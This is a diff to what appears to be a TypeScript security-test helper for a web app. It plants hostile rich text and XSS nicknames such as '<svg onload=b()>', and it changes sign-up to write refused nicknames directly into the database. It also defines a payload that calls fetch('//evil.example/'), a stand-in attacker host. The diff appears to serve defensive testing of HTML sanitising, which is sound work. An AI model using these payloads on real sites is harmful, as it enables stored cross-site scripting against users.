@@ -1,5 +1,6 @@
 import sharp from 'sharp';
 import { hostileHtml } from '../../src/platform/rich-text/hostile-html.ts';
+import { onDatabaseOf } from './database-of.ts';
 
 /** Reports visibly that it ran, and calls a foreign host. */
 const deed = "(window.__owned=1,fetch('//evil.example/'))";
@@ -36,9 +37,15 @@ export interface Planted {
   refused: string[];
 }
 
+export interface Planting {
+  url: string;
+  dataDir: string;
+}
+
 /** Writes the texts everywhere a person may write; refused ones are left out. */
-export async function plantTexts(url: string, texts: readonly string[]): Promise<Planted> {
-  const [minji, junho] = [await Writer.signUp(url, 'x" onload=a b='), await Writer.signUp(url, '<svg onload=b()>')];
+export async function plantTexts(server: Planting, texts: readonly string[]): Promise<Planted> {
+  const minji = await Writer.signUp(server, 'x" onload=a b=');
+  const junho = await Writer.signUp(server, '<svg onload=b()>');
   const paths: string[] = [];
   for (const text of texts) {
     const [title, content] = [`<p>${plantedWord} ${text}</p>`, `<p>${plantedWord}</p>${text}`];
@@ -92,11 +99,14 @@ class Writer {
     this.user = user;
   }
 
-  static async signUp(url: string, nickName: string): Promise<Writer> {
-    const person = { email: `${Math.random().toString(36).slice(2)}@teum.kr`, password: 'teum-planted-1!' };
-    // A name belongs to one person, and the texts are planted twice.
-    const ownName = `${nickName}${Math.random().toString(36).slice(2, 5)}`;
-    await post(`${url}/api/auth/signup`, JSON.stringify({ ...person, userName: '민지', nickName: ownName }), json);
+  /** With a nickname that only accounts of earlier versions can have: sign-up refuses it. */
+  static async signUp({ url, dataDir }: Planting, nickName: string): Promise<Writer> {
+    const mark = Math.random().toString(36).slice(2);
+    const person = { email: `${mark}@teum.kr`, password: 'teum-planted-1!' };
+    await post(`${url}/api/auth/signup`, JSON.stringify({ ...person, userName: '민지', nickName: mark }), json);
+    await onDatabaseOf(dataDir, (db) =>
+      db.updateTable('account').set({ nick_name: nickName }).where('email', '=', person.email).execute(),
+    );
     const login = await post(`${url}/api/auth/login`, JSON.stringify(person), json);
     const { accessToken } = (await login.json()) as { accessToken: string };
     const user = await fetch(`${url}/api/auth/user/info`, { headers: { authorization: `Bearer ${accessToken}` } });
